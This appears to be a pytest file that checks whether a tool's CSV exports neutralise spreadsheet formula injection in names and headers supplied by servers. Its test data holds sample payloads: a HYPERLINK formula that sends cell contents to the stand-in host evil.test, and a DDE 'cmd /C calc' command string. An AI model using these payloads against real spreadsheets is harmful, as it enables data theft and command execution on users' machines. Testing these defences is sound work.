"""Names and headers that servers chose, as formulas in a spreadsheet, in every CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from urllib.parse import unquote

import pytest

from cli.look import report
from firstflight.system import spreadsheet
from reports.page import html
from store import open_store
from tests import stores

LINK = '=HYPERLINK("http://evil.test/?"&A1,"click")'
# Text from a server -> text in CSV.
TEXTS = {
    LINK: f"'{LINK}",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "＝1": "'＝1",
    "-1.5": "-1.5",
    "+7e3": "+7e3",
    "nginx=1": "nginx=1",
    "nginx\r=1": "nginx\r=1",
    'a","=1': 'a","=1',
    "": "",
}


@pytest.mark.parametrize("text", TEXTS)
def test_a_field_is_no_formula(text: str) -> None:
    assert spreadsheet.field(text) == TEXTS[text]
    assert [spreadsheet.field(value) for value in (None, -3, 2.5)] == [None, -3, 2.5]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_answers_in_csv_have_no_formulas_and_other_formats_are_exact(tables: Path) -> None:
    assert tables.is_dir()
    quoted = [text.replace("\\", "\\\\").replace("'", "\\'") for text in TEXTS]
    query = (
        "SELECT " + ", ".join(f"'{text}' AS c{n}" for n, text in enumerate(quoted)) + ", -5 AS n, -0.5 AS f"
    )
    with open_store() as store:
        for statement, wanted in (
            (query, "CSV"),
            (query, "CSVWithNames"),
            (f"{query} FORMAT CSVWithNamesAndTypes", "TSV"),
        ):
            row = _read(store.formatted(statement, wanted).content.decode())[-1]
            assert row == [*TEXTS.values(), "-5", "-0.5"]
    (exact,) = stores.rows(f"chdb:{tables}", query)
    assert list(exact.values()) == [*TEXTS, -5, -0.5]


def test_csv_of_reports_has_no_formulas() -> None:
    rows = [{"server": text, "share": -0.5, "names": ["=1"]} for text in TEXTS]
    for made in (report._csv(rows), unquote(html.csv_url(rows).partition(",")[2])):
        assert [row[0] for row in _read(made)[1:]] == list(TEXTS.values())
        assert _read(made)[1][1:] in (["-0.5", '["=1"]'], ["-0.5", "['=1']"])
